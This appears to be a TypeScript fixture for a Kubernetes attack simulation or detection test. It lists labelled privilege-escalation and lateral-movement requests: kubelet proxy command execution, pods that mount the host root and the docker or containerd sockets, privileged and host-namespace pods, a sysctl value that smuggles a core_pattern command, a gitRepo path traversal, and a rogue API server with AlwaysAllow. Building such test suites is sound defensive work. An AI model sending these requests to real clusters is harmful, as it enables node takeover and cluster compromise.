import { asks, attack } from '../ask.ts';
import { container, goodSpec, job, pod } from '../objects.ts';
import { inTerminal, webSocket } from '../session.ts';
import type { AttackStep, Step } from '../step.ts';
import { jupyter, svetlana, tomas } from './attackers.ts';

const core = '/api/v1';
const node = `${core}/nodes/pool-a-1`;
const kubelets = attack(
  'privilege-escalation',
  ['PE20', jupyter.get('pods of a kubelet', `${node}/proxy/pods`)],
  ['PE20', jupyter.get('pods that a kubelet runs', `${node}/proxy/runningpods/`)],
  ['PE20', jupyter.get('settings of a kubelet', `${core}/nodes/https:pool-a-1:10250/proxy/configz`)],
  ['PE20', jupyter.get('journal of a node', `${node}/proxy/logs/?query=kubelet`)],
  ['PE20', jupyter.get('log of a container at the kubelet', `${node}/proxy/containerLogs/web/frontend-0/main`)],
  ['PE21', jupyter.post('command at the kubelet', `${node}/proxy/run/web/frontend-0/main?cmd=id`, {})],
  [
    'PE21',
    svetlana.open('session at the kubelet', `${node}/proxy/exec/web/frontend-0/main?command=id&output=1`, {
      method: 'GET',
      headers: webSocket,
    }),
  ],
  ['PE21', jupyter.post('checkpoint', `${node}/proxy/checkpoint/web/frontend-0/main`, {})],
  ['LM04', jupyter.get('page of a pod', `${core}/namespaces/monitoring/pods/http:grafana-0:3000/proxy/api/users`)],
  [
    'LM04',
    svetlana.get('page of a service', `${core}/namespaces/kubernetes-dashboard/services/https:kubernetes-dashboard:/proxy/`),
  ],
  ['N31', svetlana.get('all logs', `${core}/namespaces/fleet/pods/unit-{n}/log`, { times: 30 })],
);

const spec = (more: object, inContainer: object = {}): object => ({
  containers: [container({ image: 'alpine', command: ['sleep', 'infinity'], ...inContainer })],
  ...more,
});
const mounted = (volume: object, more: object = {}): object =>
  spec({ volumes: [{ name: 'v', ...volume }], ...more }, { volumeMounts: [{ name: 'v', mountPath: '/host' }] });
const secured = (securityContext: object): object => spec({}, { securityContext });
const fromPython = asks('svetlana', 'OpenAPI-Generator/29.0.0/python');
const javascript = asks('jupyter', 'node-fetch');
const pods = `${core}/namespaces/default/pods`;
const make = (rows: string, name: string, body: object, by = svetlana): readonly [string, Step] => [
  rows,
  by.post(`pod: ${name}`, `${pods}?fieldManager=kubectl-run`, pod(name, body)),
];

const escapes = attack(
  'privilege-escalation',
  make('PE01 PE04', 'everything-allowed', {
    ...mounted({ hostPath: { path: '/' } }, { hostPID: true, hostNetwork: true, hostIPC: true }),
  }),
  make('PE01', 'priv-exec', secured({ privileged: true })),
  make('PE02', 'root-of-node', mounted({ hostPath: { path: '/' } }), fromPython),
  make('PE02', 'docker', mounted({ hostPath: { path: '/var/run/docker.sock' } }), fromPython),
  make('PE02', 'containerd', mounted({ hostPath: { path: '/run/containerd/containerd.sock', type: 'Socket' } }), javascript),
  make('PE02', 'manifests', mounted({ hostPath: { path: '/etc/kubernetes/manifests', type: 'Directory' } })),
  make('PE02', 'kubelet-files', mounted({ hostPath: { path: '/var/lib/kubelet' } })),
  make('PE02', 'logs', mounted({ hostPath: { path: '/var/log' } })),
  make('PE02', 'proc', mounted({ hostPath: { path: '/proc/sys/kernel' } })),
  make('PE03', 'net', spec({ hostNetwork: true })),
  make('PE04', 'pid', spec({ hostPID: true })),
  make('PE05', 'ipc', spec({ hostIPC: true })),
  make('PE06', 'ptrace', secured({ capabilities: { add: ['SYS_PTRACE'] } })),
  make('PE06', 'module', secured({ capabilities: { add: ['CAP_SYS_MODULE'] } })),
  make('PE06', 'dac', secured({ capabilities: { add: ['dac_read_search'] } })),
  make('PE29', 'unmasked', { hostUsers: false, ...secured({ procMount: 'Unmasked' }) }),
  make('PE29', 'unconfined', secured({ seccompProfile: { type: 'Unconfined' }, appArmorProfile: { type: 'Unconfined' } })),
  make('PE01', 'windows', {
    ...secured({}),
    hostNetwork: true,
    os: { name: 'windows' },
    securityContext: { windowsOptions: { hostProcess: true, runAsUserName: 'NT AUTHORITY\\SYSTEM' } },
  }),
  make('N25', 'on-control-plane', { ...secured({}), nodeName: 'cp-1', tolerations: [{ operator: 'Exists' }] }),
  make('N28', 'descriptor', spec({}, { workingDir: '/proc/self/fd/8' })),
  make('N28', 'repository', mounted({ gitRepo: { repository: 'https://198.51.100.7/x.git', directory: '../../x/.git' } })),
  make('N28', 'sysctl', {
    ...secured({}),
    securityContext: { sysctls: [{ name: 'kernel.shm_rmid_forced', value: '1+kernel.core_pattern=|/x' }] },
  }),
  make(
    'N24 PE04',
    'node-debugger-pool-a-1-x7k2p',
    mounted(
      { hostPath: { path: '/' } },
      { hostPID: true, hostNetwork: true, hostIPC: true, nodeName: 'pool-a-1', tolerations: [{ operator: 'Exists' }] },
    ),
  ),
  [
    'EX22',
    tomas.post(
      'search for holes as a job',
      '/apis/batch/v1/namespaces/web/jobs',
      job('inventory', { containers: [container({ image: 'docker.io/aquasec/kube-hunter:0.6.8', args: ['--pod'] })] }),
    ),
  ],
  ['N33 EX01', svetlana.open('session in a strong pod', inTerminal(`${pods}/everything-allowed`, 'sh'))],
  [
    'EX14 PE22',
    svetlana.post(
      'account of a controller',
      `${core}/namespaces/kube-system/pods`,
      pod('kube-utils', { ...goodSpec(), serviceAccountName: 'clusterrole-aggregation-controller' }),
    ),
  ],
  [
    'EX14 N30',
    svetlana.post(
      'another API server',
      `${core}/namespaces/kube-system/pods`,
      pod(
        'kube-apiserver-cp-l',
        spec(
          { hostNetwork: true },
          {
            image: 'registry.k8s.io/kube-apiserver:v1.37.2',
            command: ['kube-apiserver', '--anonymous-auth=true', '--authorization-mode=AlwaysAllow', '--secure-port=9444'],
          },
        ),
      ),
    ),
  ],
);

/** Kubelets through the API, and pods that reach their node. */
export const nodeSteps: readonly AttackStep[] = [...kubelets, ...escapes];
